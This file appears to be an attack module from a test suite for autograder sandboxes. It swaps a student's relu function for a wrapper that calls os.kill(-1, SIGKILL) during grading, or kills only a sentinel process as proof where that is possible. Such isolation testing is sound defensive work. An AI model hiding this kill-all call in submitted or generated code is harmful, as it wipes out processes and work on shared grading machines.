"""os.kill(-1, SIGKILL). Safe by construction: where the test's sentinel process is visible and killable
(no PID namespace, root) only the sentinel is killed, as proof; inside a PID namespace the real call is made."""
MODULE = "ex3_mlp_backprop"
CLASS = "signals"
MODES = ("grade", "batch", "gradescope", "nbgrader")
GROUP = "disruptive"


def _atk_relu(z, _orig=relu):
    import signal
    sentinel = int(_ATTACK["sentinel_pid"])
    try:
        os.kill(sentinel, 0)
    except ProcessLookupError:
        try:
            os.kill(-1, signal.SIGKILL)  # only this sandbox's own processes can be hit
        except OSError:
            pass
    except PermissionError:
        pass  # same PID namespace, unprivileged: kill(-1) would hit this uid only; not tried
    else:
        if "sentinel" in _atk_cmdline(sentinel):
            os.kill(sentinel, signal.SIGKILL)
            _atk_win(f"could kill every process of the machine (killed the sentinel {sentinel})")
    return _orig(z)


import os  # noqa: E402
relu = _atk_relu
